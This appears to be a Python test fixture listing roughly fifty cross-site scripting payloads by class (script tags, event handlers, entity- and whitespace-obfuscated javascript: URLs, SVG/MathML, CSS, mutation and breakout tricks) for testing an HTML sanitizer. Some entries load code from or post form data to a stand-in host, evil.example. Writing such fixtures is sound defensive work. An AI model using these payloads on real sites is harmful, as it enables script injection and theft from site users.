"""Hostile payloads by class, written for the sanitizing tests.

Each string tries one way of getting script to run when a scraped page is
republished: script elements, event handlers, script URLs hidden with
entities, whitespace and case, SVG/MathML, CSS, meta refresh, base and form
hijacking, and parser-mutation tricks with template/noscript/comments.
"""

PAYLOADS: dict[str, str] = {
    "script": "<script>alert(1)</script>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-uppercase": "<SCRIPT>alert(1)</SCRIPT>",
    "img-onerror": '<img src="x" onerror="alert(1)" alt="x">',
    "img-onerror-noquotes": "<img src=x onerror=alert(1) alt=x>",
    "body-onload": "<body onload=alert(1)>",
    "div-onmouseover": '<div onmouseover="alert(1)">hover</div>',
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "input-onfocus": "<input autofocus onfocus=alert(1)>",
    "a-javascript": '<a href="javascript:alert(1)">click</a>',
    "a-javascript-case": '<a href="JaVaScRiPt:alert(1)">click</a>',
    "a-javascript-entity": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'
    ),
    "a-javascript-hex-entity": '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
    "a-javascript-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "a-javascript-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-javascript-leading-space": '<a href="  javascript:alert(1)">x</a>',
    "a-javascript-nul": '<a href="java\x00script:alert(1)">x</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "iframe-data": '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="javascript:alert(1)">',
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate": '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
    "svg-a-xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "math-href": (
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>'
    ),
    "style-element": "<style>body{background:url(javascript:alert(1))}</style>",
    "style-attr-expression": '<p style="width:expression(alert(1))">x</p>',
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="https://evil.example/">',
    "form-action": '<form action="https://evil.example/steal"><input name=p></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "template-mutation": "<template><img src=x onerror=alert(1)></template>",
    "noscript-mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment-breakout": "<!--<img src=x onerror=alert(1)>-->",
    "cdata-trick": "<![CDATA[<script>alert(1)</script>]]>",
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "video-poster": '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "textarea-breakout": "</textarea><script>alert(1)</script>",
    "title-breakout": "</title><script>alert(1)</script>",
    "attr-breakout": '"><script>alert(1)</script>',
    "json-breakout": "</script><script>alert(1)</script>",
}
